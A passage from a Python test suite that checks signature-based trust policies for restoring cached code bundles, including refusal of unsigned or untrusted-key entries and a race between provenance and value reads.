    source = tmp_path / "machine-1" / "cache"
    for relative, data in CACHE_FILES.items():
        (source / relative).parent.mkdir(parents=True, exist_ok=True)
        (source / relative).write_bytes(data)
    async with open_environment("capturing", root=tmp_path / "machine-1") as env:
        await caches.capture(env, tree, source)
        out = await export_signed(env, tmp_path / "caches.bundle", bundle_format, key)
    return tree, out


async def test_under_require_signature_a_restore_writes_only_code_a_trusted_key_signed(
    cold_env: Environment, keys: dict[str, Path], tmp_path: Path, bundle_format: str
) -> None:
    tree, out = await _captured_bundle(tmp_path, bundle_format, keys["ci"])
    required = Trust((public(keys["ci"]),), require_signature=True)
    await import_bundle(out, cold_env, trust=required)
    restored = await caches.restore(cold_env, tree, tmp_path / "t1", trust=required)
    assert (restored.written, restored.refused) == (2, ())
    other = Trust((public(keys["mallory"]),), require_signature=True)
    refused = await caches.restore(cold_env, tree, tmp_path / "t2", trust=other)
    assert restored.written == 2 and refused.written == 0
    assert sorted(r.path for r in refused.refused) == sorted(CACHE_FILES)
    assert not (tmp_path / "t2").exists() or list((tmp_path / "t2").rglob("*")) == []


async def test_code_imported_unsigned_is_refused_by_a_restore_under_the_configured_policy(
    cold_env: Environment,
    keys: dict[str, Path],
    tmp_path: Path,
    bundle_format: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    tree, out = await _captured_bundle(tmp_path, bundle_format, None)
    await import_bundle(out, cold_env)  # before the policy was set
    here = tmp_path / "here"
    for relative, data in {"local.bin": b"mine"}.items():  # captured on this machine
        (here / relative).parent.mkdir(parents=True, exist_ok=True)
        (here / relative).write_bytes(data)
    await caches.capture(cold_env, tree, here)
    monkeypatch.setenv("WARMENV_TRUSTED_KEYS", str(public(keys["ci"])))
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "1")
    report = await caches.restore(cold_env, tree, tmp_path / "target")
    assert report.written == 1
    assert sorted(r.path for r in report.refused) == sorted(CACHE_FILES)
    assert all("require_signature" in r.reason for r in report.refused)
    assert sorted(p.name for p in (tmp_path / "target").rglob("*") if p.is_file()) == ["local.bin"]


class _CapturedBetweenReads(GatedStorage):
    """The real storage, where this machine captures a file of its own under an entry's key
    the first time that entry's provenance is asked for apart from its value: what a
    concurrent capture does between two reads."""

    captured: bytes | None = None

    async def info(self, key: bytes) -> EntryInfo | None:
        if self.captured is None:
            self.captured = key
            await self.inner.replace(key, b"captured here", Origin.LOCAL)
        return await self.inner.info(key)


@counted(*_RACED)
async def test_a_restore_judges_each_value_by_the_provenance_read_with_it(
    cold_env: Environment,
    keys: dict[str, Path],
    tmp_path: Path,
    bundle_format: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Unsigned code is never written because a capture replaced it between two reads."""
    tree, out = await _captured_bundle(tmp_path, bundle_format, None)
    await import_bundle(out, cold_env)  # unsigned, before the policy
    storage = Environment.storage
    monkeypatch.setattr(
        Environment, "storage", lambda env, ns: _CapturedBetweenReads(storage(env, ns))
    )
    required = Trust((public(keys["ci"]),), require_signature=True)
    report = await caches.restore(cold_env, tree, tmp_path / "target", trust=required)
    written = {
        p.relative_to(tmp_path / "target").as_posix(): p.read_bytes()
        for p in (tmp_path / "target").rglob("*")
        if p.is_file()
    }
    assert all(data not in CACHE_FILES.values() for data in written.values()), written
    assert report.written == len(written)


async def test_a_digest_imported_again_unchecked_loses_its_signer(
    cold_env: Environment, keys: dict[str, Path], tmp_path: Path, bundle_format: str
) -> None:
    """verify=False and no trust: what that import wrote under the digest is unchecked."""
    _, out = await _captured_bundle(tmp_path, bundle_format, keys["ci"])
    await import_bundle(out, cold_env, trust=[public(keys["ci"])])
    digest = read_manifest(out)["digest"]
    assert await cold_env.bundle_signers() == {digest: str(public(keys["ci"]))}
    await import_bundle(out, cold_env, verify=False)
    assert await cold_env.bundle_signers() == {}
